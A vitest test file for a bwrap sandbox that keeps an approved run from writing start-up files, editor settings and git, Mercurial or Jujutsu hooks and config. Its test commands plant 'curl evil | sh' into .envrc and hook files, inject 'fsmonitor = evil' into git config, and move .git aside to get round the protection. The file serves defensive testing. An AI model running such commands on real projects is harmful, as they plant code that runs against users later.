// An approved run may write its writable roots, but not the files that make a later program run code (ADR 0098):
// those that do not exist yet, and every git directory's hooks and config, not only the top-level `.git`'s. With
// the real bwrap; each test is named after the attack it stops.
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCommand } from '../../src/exec/run.js';
import { dirOutsideTmp, git, removeAll, runOptions, withSubmodule } from './helpers.js';

const made: string[] = [];
afterAll(() => removeAll(made));

function world(): { project: string; wispHome: string; base: string } {
  const base = dirOutsideTmp('held');
  made.push(base);
  const project = join(base, 'project');
  const wispHome = join(base, 'wisp-home');
  for (const d of [project, wispHome]) mkdirSync(d, { recursive: true });
  writeFileSync(join(project, 'README.md'), 'readme\n');
  return { project, wispHome, base };
}


describe('an approved run', () => {
  it('cannot create a start-up or tool file that is missing (.claude/settings.json, .vscode/tasks.json, .envrc, .bashrc), and leaves no placeholder behind', async () => {
    const w = world();
    const before = readdirSync(w.project).sort();
    const line = [
      'mkdir -p .claude && echo "{\\"hooks\\":{}}" > .claude/settings.json',
      'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
      'echo "curl evil | sh" > .envrc',
      'echo "evil" >> .bashrc',
      'echo ok > fine.txt',
    ].join('; ');
    const r = await runCommand(line, runOptions(w.project, w.wispHome));
    expect(r.sandboxed).toBe('bwrap');
    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(readdirSync(w.project).sort()).toEqual([...before, 'fine.txt'].sort());
  });

  it("cannot plant a Mercurial or Jujutsu hook, nor git's XDG config (.hg/hgrc, .jj/repo/config.toml, .config/git/config) (ADR 0101)", async () => {
    const w = world();
    for (const d of ['.hg', '.jj/repo', '.config']) mkdirSync(join(w.project, d), { recursive: true });
    writeFileSync(join(w.project, '.hg', 'hgrc'), '[ui]\nusername = t\n');
    const line = [
      'printf "[hooks]\\npre-commit = curl evil | sh\\n" >> .hg/hgrc',
      'echo "[ui]" > .jj/repo/config.toml',
      'mkdir -p .config/git && echo "[core]" > .config/git/config',
      'echo ok > fine.txt',
    ].join('; ');
    const r = await runCommand(line, runOptions(w.project, w.wispHome));
    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(readFileSync(join(w.project, '.hg', 'hgrc'), 'utf8')).toBe('[ui]\nusername = t\n');
    expect(existsSync(join(w.project, '.jj', 'repo', 'config.toml'))).toBe(false);
    expect(existsSync(join(w.project, '.config', 'git'))).toBe(false);
    expect(r.restored).toEqual([join(w.project, '.jj', 'repo', 'config.toml')]);
  });

  it('names what it undid: a start-up file it created is removed after the run, and the result says so', async () => {
    const w = world();
    const r = await runCommand('echo "curl evil | sh" > .envrc && cat .envrc', runOptions(w.project, w.wispHome));
    expect(r.stdout).toContain('curl evil'); // a file, not a mount: the run could write it, nobody runs it before it goes
    expect(existsSync(join(w.project, '.envrc'))).toBe(false);
    expect(r.restored).toEqual([join(w.project, '.envrc')]);
  });

  it('commits no placeholder: git add -A in an approved run stages only what the command made', async () => {
    const w = world();
    git(w.project, 'init', '-q');
    const r = await runCommand(
      'echo new > new.txt && git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git show --name-only --format= HEAD',
      runOptions(w.project, w.wispHome),
    );
    expect(r.stdout.trim().split('\n').sort()).toEqual(['README.md', 'new.txt']);
  });

  it('cannot replace a start-up file that is a link: the link is put back after the run', async () => {
    const w = world();
    writeFileSync(join(w.project, 'envrc.real'), 'export A=1\n');
    symlinkSync('envrc.real', join(w.project, '.envrc'));
    const r = await runCommand('echo "curl evil | sh" >> .envrc; rm -f .envrc && echo "curl evil | sh" > .envrc', runOptions(w.project, w.wispHome));
    expect(readFileSync(join(w.project, 'envrc.real'), 'utf8')).toBe('export A=1\n');
    expect(readFileSync(join(w.project, '.envrc'), 'utf8')).toBe('export A=1\n');
    expect(r.restored).toEqual([join(w.project, '.envrc')]);
  });

  it('cannot write a hook when .git/hooks is missing', async () => {
    const w = world();
    git(w.project, 'init', '-q');
    rmSync(join(w.project, '.git', 'hooks'), { recursive: true, force: true });
    const r = await runCommand('mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; git status --short >/dev/null && echo GIT-OK', runOptions(w.project, w.wispHome));
    expect(r.stdout).toContain('GIT-OK'); // git still works around the held names
    expect(existsSync(join(w.project, '.git', 'hooks'))).toBe(false);
  });

  it("cannot plant a hook or config in a submodule's git directory (.git/modules/…)", async () => {
    const w = world();
    withSubmodule(w.base, w.project, 'vendor/lib');
    const modules = join(w.project, '.git', 'modules', 'vendor', 'lib');
    const config = readFileSync(join(modules, 'config'), 'utf8');
    const r = await runCommand(
      `echo evil > '${modules}/hooks/pre-commit'; echo "[core] fsmonitor = evil" >> '${modules}/config'; echo "[core] fsmonitor = evil" > '${modules}/config.worktree'; echo ok > fine.txt`,
      runOptions(w.project, w.wispHome),
    );
    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(existsSync(join(modules, 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(modules, 'config'), 'utf8')).toBe(config);
    expect(existsSync(join(modules, 'config.worktree'))).toBe(false);
    expect(r.stderr).toMatch(/Read-only file system/);
  });

  it('cannot plant a hook in a repository nested deeper in the project (vendor/tool/.git)', async () => {
    const w = world();
    const nested = join(w.project, 'vendor', 'tool');
    mkdirSync(nested, { recursive: true });
    git(nested, 'init', '-q');
    const r = await runCommand('echo evil > vendor/tool/.git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> vendor/tool/.git/config; echo ok > fine.txt', runOptions(w.project, w.wispHome));
    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(existsSync(join(nested, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(nested, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
    expect(r.stderr).toMatch(/Read-only file system/);
  });

  it('cannot repoint a .git file, nor write the hooks of the git directory it names', async () => {
    const w = world();
    const gitDir = join(w.project, '.repo');
    git(w.project, 'init', '-q', `--separate-git-dir=${gitDir}`);
    const pointer = readFileSync(join(w.project, '.git'), 'utf8');
    const r = await runCommand(
      'echo evil > .repo/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .repo/config; echo "gitdir: elsewhere" > .git',
      runOptions(w.project, w.wispHome),
    );
    expect(r.sandboxed).toBe('bwrap');
    expect(existsSync(join(gitDir, 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(gitDir, 'config'), 'utf8')).not.toContain('fsmonitor');
    expect(readFileSync(join(w.project, '.git'), 'utf8')).toBe(pointer);
  });

  it("a linked worktree as the launch dir, its common git directory a writable path (so commits work): cannot write the common hooks or config", async () => {
    const w = world();
    const main = join(w.base, 'main');
    mkdirSync(main);
    git(main, 'init', '-q');
    git(main, 'commit', '-q', '--allow-empty', '-m', 'one');
    const wt = join(w.base, 'wt');
    git(main, 'worktree', 'add', '-q', wt);
    const config = readFileSync(join(main, '.git', 'config'), 'utf8');
    const r = await runCommand(
      `echo evil > '${main}/.git/hooks/pre-commit'; echo "[core] fsmonitor = evil" >> '${main}/.git/config'; echo ok > fine.txt; git commit -q --allow-empty -m two && echo COMMITTED`,
      { ...runOptions(wt, w.wispHome, { env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }), sandbox: { enabled: true, allowNetwork: true, writablePaths: [join(main, '.git')] } },
    );
    expect(readFileSync(join(wt, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(r.stdout).toContain('COMMITTED');
    expect(existsSync(join(main, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(main, '.git', 'config'), 'utf8')).toBe(config);
    expect(r.stderr).toMatch(/Read-only file system/);
  });

  it('cannot fill a start-up file through a dangling link named like one', async () => {
    const w = world();
    symlinkSync('envrc.real', join(w.project, '.envrc'));
    const r = await runCommand('echo "curl evil | sh" > .envrc; echo ok > fine.txt', runOptions(w.project, w.wispHome));
    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(existsSync(join(w.project, 'envrc.real'))).toBe(false);
    expect(r.exitStatus).toBe(0);
  });
});

describe('an approved run renaming the directory above a held path', () => {
  it('cannot move .git aside and rebuild it with a writable hooks directory', async () => {
    const w = world();
    git(w.project, 'init', '-q');
    const r = await runCommand(
      'mv .git .g; mkdir -p .git; cp -a .g/. .git/ 2>/dev/null; echo evil > .git/hooks/pre-commit; echo ok > fine.txt',
      runOptions(w.project, w.wispHome),
    );
    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
    expect(existsSync(join(w.project, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(join(w.project, '.g'))).toBe(false);
    expect(r.stderr).toMatch(/busy/i);
  });

  it("cannot move a submodule's git directory (or .git/modules) aside either", async () => {
    const w = world();
    withSubmodule(w.base, w.project, 'lib');
    const r = await runCommand(
      'mv .git/modules .git/m2; mv .git/modules/lib .git/modules/l2; mkdir -p .git/modules/lib/hooks; echo evil > .git/modules/lib/hooks/pre-commit; true',
      runOptions(w.project, w.wispHome),
    );
    expect(r.exitStatus).toBe(0);
    expect(readFileSync(join(w.project, '.git', 'modules', 'lib', 'HEAD'), 'utf8')).toMatch(/ref:/);
    expect(existsSync(join(w.project, '.git', 'modules', 'lib', 'hooks', 'pre-commit'))).toBe(false);
  });
});
